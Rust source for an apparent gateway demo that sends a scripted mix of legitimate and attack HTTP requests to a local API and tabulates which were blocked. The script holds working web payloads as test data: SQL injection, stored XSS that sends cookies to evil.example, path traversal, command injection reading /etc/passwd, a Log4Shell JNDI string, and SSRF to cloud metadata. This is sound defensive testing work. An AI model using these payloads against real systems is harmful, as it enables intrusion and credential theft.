//! The scripted traffic of `palisade demo --attack`: a short mix of legitimate
//! requests and attacks, a runner that sends it to an address (normally the
//! gateway in front of the demo API) and a table of what happened.
//!
//! A request counts as blocked when the answer is an `application/problem+json`
//! error: the gateway answers that way and the demo API never does. The crash
//! probe counts as scrubbed when none of [`CRASH_LEAK_MARKERS`] comes back.

use crate::{CRASH_LEAK_MARKERS, DEMO_USERS};
use bytes::Bytes;
use http::{header, HeaderValue, Method, Request};
use http_body_util::{BodyExt, Full};
use hyper_util::client::legacy::connect::HttpConnector;
use hyper_util::client::legacy::Client;
use hyper_util::rt::TokioExecutor;
use std::collections::HashMap;
use std::fmt::Write;
use std::net::SocketAddr;
use std::time::Duration;

/// Whether a scripted request is ordinary use or an attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TrafficKind {
    Legit,
    Attack,
}

impl TrafficKind {
    pub fn as_str(self) -> &'static str {
        match self {
            TrafficKind::Legit => "legit",
            TrafficKind::Attack => "attack",
        }
    }
}

/// One request of the script.
#[derive(Debug, Clone)]
pub struct ScriptedRequest {
    pub name: &'static str,
    pub kind: TrafficKind,
    pub method: Method,
    /// Path and query, already percent-encoded where needed.
    pub path_and_query: String,
    pub headers: Vec<(&'static str, String)>,
    /// JSON body, sent with `Content-Type: application/json`.
    pub json_body: Option<String>,
    /// Seeded user to log in as first (through the same target).
    pub login_as: Option<&'static str>,
}

impl ScriptedRequest {
    fn new(name: &'static str, kind: TrafficKind, method: Method, path: &str) -> Self {
        ScriptedRequest {
            name,
            kind,
            method,
            path_and_query: path.to_string(),
            headers: Vec::new(),
            json_body: None,
            login_as: None,
        }
    }
    fn header(mut self, name: &'static str, value: &str) -> Self {
        self.headers.push((name, value.to_string()));
        self
    }
    fn json(mut self, body: &str) -> Self {
        self.json_body = Some(body.to_string());
        self
    }
    fn logged_in_as(mut self, user: &'static str) -> Self {
        self.login_as = Some(user);
        self
    }
}

/// The demo traffic, legitimate requests first.
pub fn attack_script() -> Vec<ScriptedRequest> {
    use Method as M;
    use TrafficKind::{Attack, Legit};
    let nested = format!("{}1{}", "[".repeat(300), "]".repeat(300));
    vec![
        ScriptedRequest::new("health check", Legit, M::GET, "/healthz"),
        ScriptedRequest::new("search products", Legit, M::GET, "/api/products?q=keyboard&limit=5"),
        ScriptedRequest::new("product page", Legit, M::GET, "/api/products/4"),
        ScriptedRequest::new("own profile", Legit, M::GET, "/api/users/me").logged_in_as("alice"),
        ScriptedRequest::new("place order", Legit, M::POST, "/api/orders")
            .json(r#"{"product_id": 2, "quantity": 1}"#)
            .logged_in_as("alice"),
        ScriptedRequest::new("seat map", Legit, M::GET, "/api/seats"),
        ScriptedRequest::new("post comment", Legit, M::POST, "/api/comments")
            .json(r#"{"text": "Great shop, delivery was fast. Would order again!"}"#),
        ScriptedRequest::new(
            "SQL injection (tautology)",
            Attack,
            M::GET,
            "/api/products?q=%27%20OR%20%271%27%3D%271%27%20--",
        ),
        ScriptedRequest::new(
            "SQL injection (UNION)",
            Attack,
            M::GET,
            "/api/products?category=books%27%20UNION%20SELECT%20username%2Cpassword_hash%20FROM%20users--",
        ),
        ScriptedRequest::new("stored XSS", Attack, M::POST, "/api/comments").json(
            r#"{"text": "<script>fetch('https://evil.example/?c='+document.cookie)</script>"}"#,
        ),
        ScriptedRequest::new(
            "path traversal",
            Attack,
            M::GET,
            "/api/echo?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
        ),
        ScriptedRequest::new(
            "command injection",
            Attack,
            M::GET,
            "/api/echo?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd",
        ),
        ScriptedRequest::new("NoSQL operator injection", Attack, M::POST, "/api/login")
            .json(r#"{"username": {"$ne": null}, "password": {"$ne": null}}"#),
        ScriptedRequest::new("Log4Shell JNDI header", Attack, M::GET, "/api/products")
            .header("x-api-version", "${jndi:ldap://evil.example:1389/a}"),
        ScriptedRequest::new("SSRF to cloud metadata", Attack, M::POST, "/api/echo")
            .json(r#"{"webhook": "http://169.254.169.254/latest/meta-data/iam/"}"#),
        ScriptedRequest::new("scanner user agent", Attack, M::GET, "/api/products")
            .header("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
        ScriptedRequest::new("JSON nesting bomb", Attack, M::POST, "/api/comments").json(&nested),
        ScriptedRequest::new("BOLA: another user's order", Attack, M::GET, "/api/orders/2")
            .logged_in_as("alice"),
        ScriptedRequest::new("BFLA: admin function as user", Attack, M::GET, "/api/admin/users")
            .logged_in_as("alice"),
        ScriptedRequest::new("deprecated endpoint", Attack, M::GET, "/api/v1/products"),
        ScriptedRequest::new("error leak probe", Attack, M::GET, "/api/debug/crash"),
    ]
}

/// What happened to one scripted request.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Verdict {
    /// Reached the API and was answered by it.
    Allowed,
    /// Refused with a problem+json error.
    Blocked,
    /// The crash probe came back without any leak marker.
    Scrubbed,
    /// The crash probe came back with internals in the body.
    Leaked,
    /// No HTTP answer (connection error, timeout) or the login step failed.
    Failed,
}

impl Verdict {
    pub fn as_str(self) -> &'static str {
        match self {
            Verdict::Allowed => "allowed",
            Verdict::Blocked => "blocked",
            Verdict::Scrubbed => "scrubbed",
            Verdict::Leaked => "leaked",
            Verdict::Failed => "failed",
        }
    }
}

#[derive(Debug, Clone)]
pub struct ScriptOutcome {
    pub name: &'static str,
    pub kind: TrafficKind,
    pub method: Method,
    pub path_and_query: String,
    pub status: Option<u16>,
    pub verdict: Verdict,
    pub detail: Option<String>,
}

type HttpClient = Client<HttpConnector, Full<Bytes>>;

const REQUEST_TIMEOUT: Duration = Duration::from_secs(10);

struct Answer {
    status: u16,
    content_type: String,
    body: Bytes,
}

async fn send(
    client: &HttpClient,
    target: SocketAddr,
    method: Method,
    path_and_query: &str,
    headers: &[(&'static str, String)],
    json_body: Option<&str>,
    token: Option<&str>,
) -> Result<Answer, String> {
    let mut builder = Request::builder()
        .method(method)
        .uri(format!("http://{target}{path_and_query}"));
    for (name, value) in headers {
        builder = builder.header(*name, value.as_str());
    }
    if let Some(token) = token {
        builder = builder.header(header::AUTHORIZATION, format!("Bearer {token}"));
    }
    let body = match json_body {
        Some(json) => {
            builder = builder.header(header::CONTENT_TYPE, "application/json");
            Bytes::from(json.to_string())
        }
        None => Bytes::new(),
    };
    let request = builder.body(Full::new(body)).map_err(|e| e.to_string())?;
    let exchange = async {
        let response = client.request(request).await.map_err(|e| e.to_string())?;
        let status = response.status().as_u16();
        let content_type = response
            .headers()
            .get(header::CONTENT_TYPE)
            .and_then(|v: &HeaderValue| v.to_str().ok())
            .unwrap_or_default()
            .to_ascii_lowercase();
        let body = response
            .into_body()
            .collect()
            .await
            .map_err(|e| e.to_string())?
            .to_bytes();
        Ok(Answer {
            status,
            content_type,
            body,
        })
    };
    tokio::time::timeout(REQUEST_TIMEOUT, exchange)
        .await
        .map_err(|_| "timed out".to_string())?
}

fn is_problem(answer: &Answer) -> bool {
    answer.status >= 400 && answer.content_type.starts_with("application/problem+json")
}

async fn login(client: &HttpClient, target: SocketAddr, username: &str) -> Result<String, String> {
    let user = DEMO_USERS
        .iter()
        .find(|u| u.username == username)
        .ok_or_else(|| format!("no seeded user {username}"))?;
    let body = serde_json::json!({"username": user.username, "password": user.password});
    let answer = send(
        client,
        target,
        Method::POST,
        "/api/login",
        &[],
        Some(&body.to_string()),
        None,
    )
    .await?;
    if answer.status != 200 {
        return Err(format!("login as {username} answered {}", answer.status));
    }
    let parsed: serde_json::Value =
        serde_json::from_slice(&answer.body).map_err(|e| format!("login answer: {e}"))?;
    parsed["token"]
        .as_str()
        .map(str::to_string)
        .ok_or_else(|| "login answer has no token".to_string())
}

/// Sends `script` to `target` in order and reports each outcome.
pub async fn run_script(target: SocketAddr, script: &[ScriptedRequest]) -> Vec<ScriptOutcome> {
    let client: HttpClient = Client::builder(TokioExecutor::new()).build_http();
    let mut tokens: HashMap<&'static str, String> = HashMap::new();
    let mut outcomes = Vec::with_capacity(script.len());
    for request in script {
        let mut outcome = ScriptOutcome {
            name: request.name,
            kind: request.kind,
            method: request.method.clone(),
            path_and_query: request.path_and_query.clone(),
            status: None,
            verdict: Verdict::Failed,
            detail: None,
        };
        let token = match request.login_as {
            None => None,
            Some(user) => match tokens.get(user) {
                Some(token) => Some(token.clone()),
                None => match login(&client, target, user).await {
                    Ok(token) => {
                        tokens.insert(user, token.clone());
                        Some(token)
                    }
                    Err(error) => {
                        outcome.detail = Some(error);
                        outcomes.push(outcome);
                        continue;
                    }
                },
            },
        };
        match send(
            &client,
            target,
            request.method.clone(),
            &request.path_and_query,
            &request.headers,
            request.json_body.as_deref(),
            token.as_deref(),
        )
        .await
        {
            Ok(answer) => {
                outcome.status = Some(answer.status);
                outcome.verdict = if is_problem(&answer) {
                    Verdict::Blocked
                } else if request.path_and_query.starts_with("/api/debug/crash") {
                    let text = String::from_utf8_lossy(&answer.body);
                    if CRASH_LEAK_MARKERS.iter().any(|marker| leaks(&text, marker)) {
                        Verdict::Leaked
                    } else {
                        Verdict::Scrubbed
                    }
                } else {
                    Verdict::Allowed
                };
            }
            Err(error) => outcome.detail = Some(error),
        }
        outcomes.push(outcome);
    }
    outcomes
}

/// The marker as plain text or JSON-escaped inside a string.
fn leaks(body: &str, marker: &str) -> bool {
    if body.contains(marker) {
        return true;
    }
    let escaped = serde_json::Value::from(marker).to_string();
    body.contains(escaped.trim_matches('"'))
}

/// A fixed-width table of outcomes with a summary line.
pub fn render_table(outcomes: &[ScriptOutcome]) -> String {
    let name_width = outcomes
        .iter()
        .map(|o| o.name.chars().count())
        .max()
        .unwrap_or(4)
        .max(4);
    let mut table = String::new();
    let _ = writeln!(
        table,
        "{:<name_width$}  {:<6}  {:<6}  {:>6}  {:<8}  REQUEST",
        "NAME", "KIND", "METHOD", "STATUS", "VERDICT"
    );
    for o in outcomes {
        let status = o.status.map_or_else(|| "-".to_string(), |s| s.to_string());
        let mut target: String = o.path_and_query.chars().take(60).collect();
        if o.path_and_query.chars().count() > 60 {
            target.push('…');
        }
        let _ = write!(
            table,
            "{:<name_width$}  {:<6}  {:<6}  {:>6}  {:<8}  {}",
            o.name,
            o.kind.as_str(),
            o.method.as_str(),
            status,
            o.verdict.as_str(),
            target
        );
        if let Some(detail) = &o.detail {
            let _ = write!(table, "  ({detail})");
        }
        table.push('\n');
    }
    let count = |kind: TrafficKind, verdicts: &[Verdict]| {
        outcomes
            .iter()
            .filter(|o| o.kind == kind && verdicts.contains(&o.verdict))
            .count()
    };
    let legit = outcomes
        .iter()
        .filter(|o| o.kind == TrafficKind::Legit)
        .count();
    let attacks = outcomes.len() - legit;
    let _ = writeln!(
        table,
        "legit allowed: {}/{legit}; attacks stopped (blocked or scrubbed): {}/{attacks}",
        count(TrafficKind::Legit, &[Verdict::Allowed]),
        count(TrafficKind::Attack, &[Verdict::Blocked, Verdict::Scrubbed]),
    );
    table
}
